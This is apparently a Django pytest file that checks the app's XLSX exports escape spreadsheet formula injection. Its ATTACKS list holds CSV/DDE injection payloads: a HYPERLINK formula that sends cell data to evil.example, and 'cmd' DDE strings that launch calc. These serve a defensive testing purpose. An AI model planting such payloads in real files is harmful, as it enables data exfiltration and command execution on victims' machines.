"""Formula injection: every XLSX the system writes shows a user's «=…» as text, never as a live formula.

Files are written by the real writers and opened again (openpyxl and the raw sheet XML).
"""

import io
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from nastavnik.orgs.models import Organization, Role
from nastavnik.people.models import Person
from nastavnik.privacy.export import personal_data_export
from nastavnik.programs import periods
from nastavnik.programs.services import roadmap_create_from_template
from nastavnik.spreadsheet import safe_text
from tests.factories import OrganizationFactory, PersonFactory, person_with_login

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1;\"Нажмите\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_a_dangerous_start_gets_an_apostrophe(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["+7 (912) 345-67-89", "-5", "Иванова", "", "a=b", "7А"])
def test_plain_text_and_phone_numbers_stay_as_they_are(text):
    assert safe_text(text) == text


def _assert_no_formula(data: bytes, expected: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(data))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    for text in expected:
        assert "'" + text in texts


@pytest.mark.django_db
def test_the_roster_export_on_the_web_and_the_command_line_writes_no_formula(client, tmp_path):
    org = OrganizationFactory()
    PersonFactory(organization=org, category=Person.Category.PARENT, workplace=ATTACKS[0], subject=ATTACKS[1])
    PersonFactory(organization=org, subject=ATTACKS[2], phone="+7 (912) 345-67-89")
    curator = person_with_login(role=Role.CURATOR, organization=org)
    client.force_login(curator.user)
    response = client.get(reverse("roster_export", args=[org.code]))
    web = b"".join(response.streaming_content)
    _assert_no_formula(web, ATTACKS[:3])
    assert "+7 (912) 345-67-89" in {c.value for c in load_workbook(io.BytesIO(web))["Люди"]["J"]}
    path = tmp_path / "out.xlsx"
    call_command("export_roster", str(path), "--org", org.code, stdout=io.StringIO())
    _assert_no_formula(path.read_bytes(), ATTACKS[:3])


@pytest.mark.django_db
def test_the_personal_data_export_writes_no_formula():
    person = PersonFactory(workplace=ATTACKS[0], subject=ATTACKS[3])
    _assert_no_formula(personal_data_export(person=person), [ATTACKS[0], ATTACKS[3]])


@pytest.mark.django_db
def test_the_roadmap_export_writes_no_formula():
    from nastavnik.programs.exports import roadmap_xlsx

    org = OrganizationFactory(kind=Organization.Kind.LYCEUM)
    roadmap = roadmap_create_from_template(
        organization=org, template_code="lyceum_2023", starts_on=periods.month_start(timezone.localdate(), -1)
    )
    activity = roadmap.activities.first()
    activity.expected_result = ATTACKS[1]
    activity.save()
    _assert_no_formula(roadmap_xlsx(roadmap=roadmap, today=timezone.localdate(), show_people=True), [ATTACKS[1]])
